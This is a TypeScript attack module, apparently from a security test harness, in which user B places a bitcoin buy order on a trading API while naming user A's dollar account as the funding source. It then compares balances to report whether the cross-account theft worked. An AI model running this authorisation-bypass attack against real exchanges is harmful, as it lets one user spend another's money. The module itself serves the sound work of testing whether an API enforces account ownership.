/** B pays for bitcoin with A's dollars. */

import type { Attack, Target } from '../breach.ts'
import { call } from '../client.ts'
import { listAt, textAt } from '../json.ts'

interface Holding {
  readonly id: string
  readonly balance: number
}

const size = '0.05'

export const attack: Attack = async target => {
  // How B learnt the id is not the point (a screenshot, a support ticket): A's own list stands for the leak.
  const victimsCash = await holding(target, 'userA', 'USD')
  const wallet = await holding(target, 'userB', 'BTC')
  if (victimsCash === undefined || wallet === undefined) {
    return {
      succeeded: false,
      effect: 'The accounts of A and B could not be read, so there was nothing to steal from.',
    }
  }
  const order = await call(target.url, 'POST', '/v1/orders', {
    token: target.tokens['userB'],
    body: {
      product_id: 'BTC-USD',
      side: 'buy',
      size,
      source_account_id: victimsCash.id,
      target_account_id: wallet.id,
    },
  })
  const lost = victimsCash.balance - ((await holding(target, 'userA', 'USD'))?.balance ?? victimsCash.balance)
  const gained = ((await holding(target, 'userB', 'BTC'))?.balance ?? wallet.balance) - wallet.balance
  return lost > 0 && gained > 0
    ? { succeeded: true, effect: `B received ${gained.toFixed(4)} BTC and A paid ${lost.toFixed(2)} USD for it.` }
    : { succeeded: false, effect: `A's dollars and B's bitcoin are as before; the order was answered ${order.status}.` }
}

/** An actor's first account in a currency, as that actor sees it. */
async function holding(target: Target, actor: string, currency: string): Promise<Holding | undefined> {
  const { body } = await call(target.url, 'GET', '/v1/accounts', { token: target.tokens[actor] })
  const account = listAt(body, 'accounts').find(each => textAt(each, 'currency') === currency)
  const id = textAt(account, 'id')
  return id === undefined ? undefined : { id, balance: Number(textAt(account, 'balance')) }
}
